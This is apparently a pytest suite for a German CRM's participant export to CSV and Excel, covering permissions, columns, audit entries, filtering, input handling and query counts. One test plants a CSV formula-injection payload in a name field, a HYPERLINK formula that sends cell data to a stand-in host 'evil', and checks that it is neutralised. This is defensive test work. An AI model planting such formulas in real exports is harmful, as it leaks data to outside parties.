"""Exporting a selection of the participant list (bulk action, admins and leads only)."""

from __future__ import annotations

import io
from datetime import date
from typing import Any

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from crm.audit.models import AuditEntry
from crm.security import ROLE_PERMISSIONS
from tests.factories import make_office, make_org, make_participant, make_user

URL = "/sammelaktionen/teilnehmende"
HEADER = [
    "Pseudonym",
    "Nachname",
    "Vorname",
    "Geschäftsstelle",
    "Zuständige Beratung",
    "Zugangsweg",
    "Zuweisende Organisation",
    "Beratungsstunden",
    "Eintritt",
    "Austritt",
    "Ergebnis",
    "Anerkennungsstatus",
]


def _flashes(client: Any) -> str:
    with client.session_transaction() as session:
        return " ".join(str(m) for _c, m in session.get("_flashes", []))


def _csv_lines(response: Any) -> list[list[str]]:
    text = response.get_data().decode("utf-8-sig")
    return [line.split(";") for line in text.strip("\r\n").split("\r\n")]


def _export_entries(db_session: Any) -> list[AuditEntry]:
    return list(
        db_session.scalars(
            sa.select(AuditEntry)
            .where(AuditEntry.action == "export", AuditEntry.entity_type == "participant")
            .order_by(AuditEntry.id)
        )
    )


def test_only_admins_and_leads_hold_the_participant_export_permission() -> None:
    holders = {r.value for r, perms in ROLE_PERMISSIONS.items() if "participants.export" in perms}
    assert holders == {"admin", "lead"}


@pytest.mark.parametrize("role", ["admin", "lead"])
def test_admins_and_leads_are_offered_the_export_on_the_participant_list(
    client_as: Any, db_session: Any, role: str
) -> None:
    make_participant(db_session)
    db_session.commit()
    page = client_as(role).get("/teilnehmende/").get_data(True)
    assert 'value="export_csv"' in page
    assert 'value="export_xlsx"' in page
    assert "Auswahl als CSV exportieren" in page
    assert "Auswahl als Excel exportieren" in page


def test_counsellors_are_not_offered_the_export_and_are_refused_it(
    client_as: Any, db_session: Any
) -> None:
    office = make_office(db_session)
    participant = make_participant(db_session, office=office)
    db_session.commit()
    client = client_as("counsellor", office=office)
    page = client.get("/teilnehmende/").get_data(True)
    assert 'value="counsellor"' in page
    assert "export_" not in page
    for action in ("export_csv", "export_xlsx"):
        response = client.post(URL, data={"action": action, "ids": [participant.id]})
        assert response.status_code == 403, action
    assert _export_entries(db_session) == []


@pytest.mark.parametrize("role", ["staff", "readonly"])
def test_roles_that_do_not_see_participants_are_refused_the_export(
    client_as: Any, db_session: Any, role: str
) -> None:
    participant = make_participant(db_session)
    db_session.commit()
    response = client_as(role).post(URL, data={"action": "export_csv", "ids": [participant.id]})
    assert response.status_code == 403
    assert _export_entries(db_session) == []


def test_the_csv_holds_the_reporting_columns_in_german_and_no_notes(
    client_as: Any, db_session: Any
) -> None:
    office = make_office(db_session, name="Geschäftsstelle Nord")
    counsellor = make_user(db_session, office=office, display_name="Bea Beraterin")
    referrer = make_org(db_session, name="Jobcenter Nord")
    participant = make_participant(
        db_session,
        counsellor=counsellor,
        first_name="Amira",
        last_name="Spaltenfall",
        referrer=referrer,
        acquisition_channel="job_fair",
        recognition_status="in_progress",
        notes="Geheime Notiz zur Gesundheit",
        sessions=((date(2026, 2, 2), 300), (date(2026, 2, 9), 210)),
        exit_on=date(2026, 6, 30),
        outcome="employment",
    )
    db_session.commit()
    response = client_as("lead").post(URL, data={"action": "export_csv", "ids": [participant.id]})
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="teilnehmende-' in response.headers["Content-Disposition"]
    header, row = _csv_lines(response)
    assert header == HEADER
    assert row == [
        participant.pseudonym,
        "Spaltenfall",
        "Amira",
        "Geschäftsstelle Nord",
        "Bea Beraterin",
        "Jobmesse",
        "Jobcenter Nord",
        "8,5",
        "09.02.2026",
        "30.06.2026",
        "Arbeitsaufnahme",
        "in Bearbeitung",
    ]
    assert "Geheime Notiz" not in response.get_data(True)


def test_select_all_matching_exports_exactly_the_filtered_participants(
    client_as: Any, db_session: Any
) -> None:
    office, elsewhere = make_office(db_session), make_office(db_session)
    wanted = [make_participant(db_session, office=office, last_name="Filterhof") for _ in range(2)]
    other_office = make_participant(db_session, office=elsewhere, last_name="Filterhof")
    other_name = make_participant(db_session, office=office, last_name="Nebenan")
    db_session.commit()
    client = client_as("lead")
    response = client.post(
        URL,
        data={
            "action": "export_csv",
            "all_matching": "y",
            "filter": f"q=Filterhof&geschaeftsstelle={office.id}",
        },
    )
    assert response.status_code == 200
    pseudonyms = {row[0] for row in _csv_lines(response)[1:]}
    assert pseudonyms == {p.pseudonym for p in wanted}
    text = response.get_data(True)
    assert other_office.pseudonym not in text
    assert other_name.pseudonym not in text


def test_a_counsellors_scope_would_never_reach_another_office_through_ticked_ids(
    app: Any, db_session: Any
) -> None:
    # The export re-checks visibility: ids smuggled past the selection stay out.
    from crm.participants import service

    office, elsewhere = make_office(db_session), make_office(db_session)
    counsellor = make_user(db_session, role="counsellor", office=office)
    own = make_participant(db_session, office=office)
    foreign = make_participant(db_session, office=elsewhere)
    db_session.commit()
    rows = list(
        service.selection_export_rows(
            db_session,
            counsellor,
            [own.id, foreign.id],
            {"acquisition_channel": {}, "exit_outcome": {}, "recognition_status": {}},
        )
    )
    assert [row[0] for row in rows] == [own.pseudonym]


def test_a_formula_in_a_name_is_neutralised_in_csv_and_xlsx(
    client_as: Any, db_session: Any
) -> None:
    evil = make_participant(
        db_session, first_name='=HYPERLINK("http://evil/?"&A1)', last_name="Formelfall"
    )
    db_session.commit()
    client = client_as("admin")
    csv = client.post(URL, data={"action": "export_csv", "ids": [evil.id]})
    assert "'=HYPERLINK(" in csv.get_data().decode("utf-8-sig")
    xlsx = client.post(URL, data={"action": "export_xlsx", "ids": [evil.id]})
    assert xlsx.status_code == 200
    assert xlsx.headers["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(xlsx.get_data())).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADER
    assert rows[1][1] == "Formelfall"
    assert rows[1][2] == '\'=HYPERLINK("http://evil/?"&A1)'
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_an_export_writes_one_summary_entry_and_one_entry_per_exported_participant(
    client_as: Any, db_session: Any
) -> None:
    chosen = [make_participant(db_session) for _ in range(3)]
    left_out = make_participant(db_session)
    db_session.commit()
    response = client_as("lead").post(
        URL, data={"action": "export_xlsx", "ids": [p.id for p in chosen]}
    )
    assert response.status_code == 200
    entries = _export_entries(db_session)
    summaries = [e for e in entries if e.entity_id is None]
    assert [e.summary for e in summaries] == ["3 rows (xlsx) selection"]
    per_participant = {e.entity_id for e in entries if e.entity_id is not None}
    assert per_participant == {p.id for p in chosen}
    assert left_out.id not in per_participant
    # Never the name: the audit log must survive erasure.
    assert all(p.last_name not in e.summary for e in entries for p in chosen)


def test_bad_input_to_the_export_never_gives_an_error_page(client_as: Any, db_session: Any) -> None:
    make_participant(db_session)
    db_session.commit()
    client = client_as("lead")
    cases = [
        {"action": "export_csv"},
        {"action": "export_csv", "ids": ["abc", "-1", "99999999999999999999", "0", "²"]},
        {"action": "export_xlsx", "all_matching": "y", "filter": "q=%00&status=x&beratung=-4"},
        {"action": "export_csv", "all_matching": "y", "filter": "geschaeftsstelle=9" * 300},
        {"action": "export_nonsense", "ids": ["1"]},
    ]
    for data in cases:
        response = client.post(URL, data=data)
        assert response.status_code in (200, 302), (data, response.status_code)
        if response.status_code == 302:
            assert "Bitte" in _flashes(client), data
    assert client.post(URL, data={"action": "export_csv", "csrf_token": "x"}).status_code == 400


def test_a_selection_beyond_the_limit_is_refused_with_a_hint(
    client_as: Any, db_session: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from crm.bulk import service

    monkeypatch.setattr(service, "MAX_BULK", 2)
    for _ in range(3):
        make_participant(db_session, last_name="Grenzfall")
    db_session.commit()
    client = client_as("lead")
    response = client.post(
        URL, data={"action": "export_csv", "all_matching": "y", "filter": "q=Grenzfall"}
    )
    assert response.status_code == 302
    assert "Filter" in _flashes(client)
    assert _export_entries(db_session) == []


def test_the_export_sends_as_many_queries_for_six_participants_as_for_two(
    client_as: Any, db_session: Any, count_queries: Any
) -> None:
    referrer = make_org(db_session)
    few = [make_participant(db_session, referrer=referrer) for _ in range(2)]
    many = few + [make_participant(db_session, referrer=make_org(db_session)) for _ in range(4)]
    selections = [[p.id for p in few], [p.id for p in many]]
    db_session.commit()
    client = client_as("lead")
    counts = []
    for ids in selections:
        with count_queries() as statements:
            response = client.post(URL, data={"action": "export_csv", "ids": ids})
            assert len(_csv_lines(response)) == len(ids) + 1
        counts.append(len(statements))
    assert counts[0] == counts[1]
